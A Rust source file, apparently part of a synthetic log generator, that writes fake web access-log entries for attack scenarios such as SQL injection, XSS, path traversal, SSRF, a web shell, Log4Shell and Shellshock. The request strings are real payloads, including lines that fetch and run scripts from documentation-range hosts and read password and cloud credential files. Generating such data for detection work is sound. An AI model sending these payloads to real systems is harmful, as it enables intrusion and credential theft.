//! Attacks inside requests: parameters, headers, uploaded code.

use super::Scene;
use crate::generate::formats::access::Hit;
use crate::generate::world::Host;

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36";

/// A request with its answer: method, path, status.
type Ask<'a> = (&'a str, &'a str, u16);

/// The attacker looks at the site, then sends the requests evenly over the
/// story.
fn send(s: &mut Scene<'_, '_>, host: Host, seconds: i64, agent: &str, asks: &[Ask<'_>]) {
    let (client, host) = (s.attacker(0), s.host(host));
    let base = Hit { client, user: "-", method: "GET", path: "/", status: 200, bytes: 9_214, referrer: "-", agent };
    let first = s.at(0);
    s.c.out.access(first, host, &base);
    let step = seconds * 1000 / (asks.len() as i64 + 1);
    for (n, (method, path, status)) in asks.iter().enumerate() {
        let t = s.about((n as i64 + 1) * step, step / 3);
        let bytes = s.c.r.range(150, 6_000);
        s.c.out.access(t, host, &Hit { method, path, status: *status, bytes, ..base });
    }
}

/// Files outside the site.
pub(super) fn traversal(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web1,
        170,
        BROWSER,
        &[
            ("GET", "/download?file=../../../../etc/passwd", 400),
            ("GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 400),
            ("GET", "/download?file=....//....//....//etc/shadow", 404),
            ("GET", "/static/..%252f..%252f..%252fetc/passwd", 404),
            ("GET", "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts", 404),
            ("GET", "/download?file=../../../../proc/self/environ", 400),
            ("GET", "/images/../../../windows/win.ini", 404),
            ("GET", "/download?file=../../../../etc/passwd%00.pdf", 200),
        ],
    );
}

/// SQL.
pub(super) fn sqli(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web2,
        230,
        BROWSER,
        &[
            ("GET", "/products/item/1042%27", 500),
            ("GET", "/search?q=x%27%20OR%20%271%27%3D%271", 200),
            ("GET", "/search?q=x%27%20OR%201%3D1--%20-", 200),
            ("GET", "/search?q=x%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-", 500),
            ("GET", "/search?q=x%27+UNION+ALL+SELECT+1,version(),3--+-", 200),
            ("GET", "/search?q=x%27/**/UNION/**/SELECT/**/login,password/**/FROM/**/users--+-", 200),
            ("GET", "/products/list?sort=1%3BSELECT%20pg_sleep(5)--", 500),
            ("GET", "/search?q=x%27%20AND%20SLEEP(5)--%20-", 200),
            ("GET", "/search?q=x%27%3B%20DROP%20TABLE%20sessions%3B--", 500),
            ("GET", "/search?q=x%27%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--%20-", 200),
        ],
    );
}

/// Scripts.
pub(super) fn xss(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web1,
        110,
        BROWSER,
        &[
            ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
            ("GET", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", 200),
            ("GET", "/contact?name=%3Csvg/onload%3Dalert(1)%3E", 200),
            ("GET", "/search?q=javascript:alert(document.domain)", 200),
            ("GET", "/blog?ref=%253Cscript%253Ealert(2)%253C%252Fscript%253E", 200),
            ("GET", "/search?q=%3Ciframe%20src%3Djavascript:alert(1)%3E", 200),
        ],
    );
}

/// Shell commands.
pub(super) fn command(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web2,
        110,
        BROWSER,
        &[
            ("GET", "/tools/ping?host=127.0.0.1%3Bid", 200),
            ("GET", "/tools/ping?host=127.0.0.1%26%26cat%20/etc/passwd", 200),
            ("GET", "/tools/ping?host=127.0.0.1%7Cwhoami", 200),
            ("GET", "/tools/ping?host=%24(uname%20-a)", 500),
            ("GET", "/tools/ping?host=%60id%60", 500),
            ("GET", "/tools/ping?host=127.0.0.1%3Bwget%20http://203.0.113.250/x%20-O%20/tmp/x%3Bsh%20/tmp/x", 200),
        ],
    );
}

/// Template expressions.
pub(super) fn template(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web1,
        110,
        BROWSER,
        &[
            ("GET", "/contact?name=%7B%7B7*7%7D%7D", 200),
            ("GET", "/contact?name=%24%7B7*7%7D", 200),
            (
                "GET",
                "/contact?name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen(%27id%27).read()%7D%7D",
                500,
            ),
            ("GET", "/contact?name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", 500),
            ("GET", "/contact?name=%3C%25%3D%207*7%20%25%3E", 200),
            ("GET", "/contact?name=%23%7B7*7%7D", 200),
        ],
    );
}

/// Files included.
pub(super) fn inclusion(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web2,
        140,
        BROWSER,
        &[
            ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config.php", 200),
            ("GET", "/index.php?page=http://203.0.113.250/r57.txt", 500),
            ("GET", "/index.php?page=expect://id", 500),
            ("GET", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", 500),
            ("GET", "/index.php?page=file:///etc/passwd", 200),
            ("GET", "/index.php?page=php://input", 500),
        ],
    );
}

/// The metadata address of clouds.
pub(super) fn ssrf(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web1,
        110,
        BROWSER,
        &[
            ("GET", "/proxy?url=http://169.254.169.254/latest/meta-data/", 200),
            ("GET", "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", 200),
            ("GET", "/proxy?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", 502),
            ("GET", "/proxy?url=http://169.254.169.254/latest/user-data", 200),
        ],
    );
}

/// An uploaded shell.
pub(super) fn shell(s: &mut Scene<'_, '_>) {
    send(
        s,
        Host::Web2,
        290,
        BROWSER,
        &[
            ("POST", "/upload.php", 200),
            ("GET", "/uploads/shell.php", 200),
            ("GET", "/uploads/shell.php?cmd=id", 200),
            ("GET", "/uploads/shell.php?cmd=cat%20/etc/passwd", 200),
            ("GET", "/uploads/shell.php?cmd=uname%20-a", 200),
            ("GET", "/uploads/shell.php?cmd=ls%20-la%20/var/www", 200),
            ("POST", "/uploads/shell.php", 200),
            ("GET", "/uploads/shell.php?cmd=whoami", 200),
        ],
    );
}

/// JNDI look-ups.
pub(super) fn log4shell(s: &mut Scene<'_, '_>) {
    let agent = "${jndi:ldap://203.0.113.251:1389/Exploit}";
    send(
        s,
        Host::Web1,
        80,
        agent,
        &[
            ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.251%3A1389%2Fa%7D", 200),
            ("GET", "/login?user=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://203.0.113.251/b%7D", 404),
            ("GET", "/api/v1/orders", 401),
        ],
    );
}

/// Function definitions in headers.
pub(super) fn shellshock(s: &mut Scene<'_, '_>) {
    let agent = "() { :; }; /bin/bash -c \"curl http://203.0.113.252/s | bash\"";
    send(
        s,
        Host::Web2,
        50,
        agent,
        &[("GET", "/cgi-bin/status.cgi", 404), ("GET", "/cgi-bin/test.sh", 404), ("GET", "/cgi-bin/admin.cgi", 404)],
    );
}
